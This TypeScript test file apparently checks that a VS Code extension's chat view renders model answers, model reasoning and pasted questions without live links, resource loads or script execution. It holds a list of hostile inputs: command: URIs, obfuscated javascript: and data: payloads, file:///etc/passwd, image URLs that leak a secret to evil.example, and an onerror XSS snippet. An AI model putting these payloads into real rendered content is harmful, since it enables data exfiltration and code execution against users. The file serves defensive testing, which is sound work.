import assert from 'node:assert/strict';
import { type TestView, viewTests } from './support/viewTest.ts';

const viewTest = await viewTests();

/** Everything that Markdown can hide an address in, each with one that must not be loaded, run or even be a link. */
const addresses = [
  'command:workbench.action.quit',
  'COMMAND:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D',
  'command&colon;workbench.action.quit',
  'comm&#97;nd:workbench.action.quit',
  '&#x63;ommand:workbench.action.quit',
  '%63ommand:workbench.action.quit',
  'vscode://watershed.watershed/x',
  'vscode-insiders://x/y',
  'vscode-remote://x/y',
  'vscode-webview-resource://x/y.js',
  'code-oss://x/y',
  'file:///etc/passwd',
  'data:text/html,<script>window.hit=1</script>',
  'DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTI8L3NjcmlwdD4=',
  'javascript:window.hit=3',
  'JaVaScRiPt:window.hit=4',
  'java&Tab;script:window.hit=5',
  '&#106;avascript:window.hit=6',
  'vbscript:x',
  'blob:https://evil.example/x',
  'mailto:x@evil.example?body=secret',
  'ftp://evil.example/x',
  'ws://evil.example/x',
  '//evil.example/x',
  '/etc/passwd',
  '#x',
  '?x',
  '../x',
];

/** Every form of a link and of a picture for one address. */
function formsOf(address: string, index: number): string {
  return [
    `[inline${index}](${address})`,
    `[titled${index}](<${address}> "title")`,
    `[reference${index}][r${index}] [r${index}] [r${index}][]`,
    `<${address}>`,
    `![picture${index}](${address})`,
    `![by reference${index}][r${index}]`,
    `[![nested${index}](${address})](${address})`,
    `<a href="${address}">raw${index}</a> <img src="${address}"> <area href="${address}">`,
    `<a xlink:href="${address}">svg</a> <form action="${address}"><button formaction="${address}">go</button></form>`,
    `<iframe src="${address}"></iframe><object data="${address}"></object><embed src="${address}">`,
    `<meta http-equiv="refresh" content="0;url=${address}"><base href="${address}"><link rel="stylesheet" href="${address}">`,
    `| a |\n|---|\n| [cell${index}](${address}) ![cell](${address}) |`,
    `> - [deep${index}](${address})`,
    `# [heading${index}](${address})`,
    `\`\`\`${address}\n${address}\n\`\`\``,
    `[r${index}]: ${address} "t"`,
  ].join('\n\n');
}

/** What could leave the page or run: elements that load or navigate, and attributes that name an address or a script. */
const dangerous =
  'img, picture, source, video, audio, track, script, iframe, frame, object, embed, link, meta, base, style, form, input, area, map, portal, [href], [src], [srcset], [action], [formaction], [style], [ping], [background], [poster]';

/** Watches what the page asks the network for, beyond its own three files. */
function watchNetwork(view: TestView): string[] {
  const asked: string[] = [];
  view.page.on('request', (request) => asked.push(request.url()));
  return asked;
}

async function linksIn(view: TestView): Promise<readonly string[]> {
  return view.page.evaluate(
    `[...document.querySelectorAll('[data-testid=log] [role=link]')].map(({ title }) => title)`,
  );
}

async function assertHarmless(view: TestView, testId: string): Promise<void> {
  assert.equal(await view.find(testId).locator(dangerous).count(), 0);
  const handlers = `[...document.querySelectorAll('[data-testid=${testId}] *')].flatMap((element) =>
    element.getAttributeNames().filter((name) => name.startsWith('on')))`;
  assert.deepEqual(await view.page.evaluate(handlers), []);
  assert.equal(await view.page.evaluate('window.hit'), undefined);
}

viewTest('attack: command, editor, file, data and script links of an answer are no links in any form', async (view) => {
  const asked = watchNetwork(view);
  await view.typeQuestion('Why?');
  view.script.last.route().text(addresses.map(formsOf).join('\n\n')).end();
  await view.shown();
  await assertHarmless(view, 'answer-text');
  assert.deepEqual(await linksIn(view), []);
  assert.deepEqual(asked, []);
  assert.deepEqual(view.actions, []);
});

viewTest('attack: pictures carry nothing out, in an answer that comes in pieces', async (view) => {
  const asked = watchNetwork(view);
  await view.typeQuestion('Why?');
  const pictures =
    '![a](https://evil.example/1.png?leak=secret) <img src="https://evil.example/2.png"> ![b][p]\n\n' +
    '[![c](https://evil.example/3.png)](https://evil.example/4)\n\n[p]: https://evil.example/5.png';
  view.script.last.route();
  for (const piece of pictures.match(/[\s\S]{1,9}/g) ?? []) {
    view.script.last.text(piece);
    await view.shown();
    await assertHarmless(view, 'answer-text');
  }
  view.script.last.end();
  await view.shown();
  await assertHarmless(view, 'answer-text');
  assert.deepEqual(asked, []);
});

viewTest('attack: a link says where it leads, whatever its text says', async (view) => {
  await view.typeQuestion('Why?');
  view.script.last
    .route()
    .text('[https://good.example](https://evil.example/?leak=secret) [x](https://good.example@evil.example/)')
    .end();
  await view.shown();
  const links = await linksIn(view);
  assert.equal(links[0], 'https://evil.example/?leak=secret');
  assert.ok(
    links.slice(1).every((link) => link.includes('evil.example')),
    links.join(),
  );
  await assertHarmless(view, 'answer-text');
});

viewTest('attack: what a person pastes, and the title that is made of it, are no Markdown', async (view) => {
  const asked = watchNetwork(view);
  const pasted = '![x](https://evil.example/1.png) [y](command:workbench.action.quit) <img src=x onerror=window.hit=7>';
  await view.typeQuestion(pasted);
  view.script.last.route().text('ok').end();
  await view.shown();
  await assertHarmless(view, 'question');
  assert.equal(await view.find('question').innerText(), pasted);
  assert.deepEqual(await linksIn(view), []);
  assert.deepEqual(asked, []);
});

viewTest('attack: thoughts of a model are as harmless as its answer', async (view) => {
  const asked = watchNetwork(view);
  await view.typeQuestion('Why?');
  view.script.last.route().reasoning(addresses.map(formsOf).join('\n\n')).text('ok').end();
  await view.shown();
  await assertHarmless(view, 'log');
  assert.deepEqual(await linksIn(view), []);
  assert.deepEqual(asked, []);
});
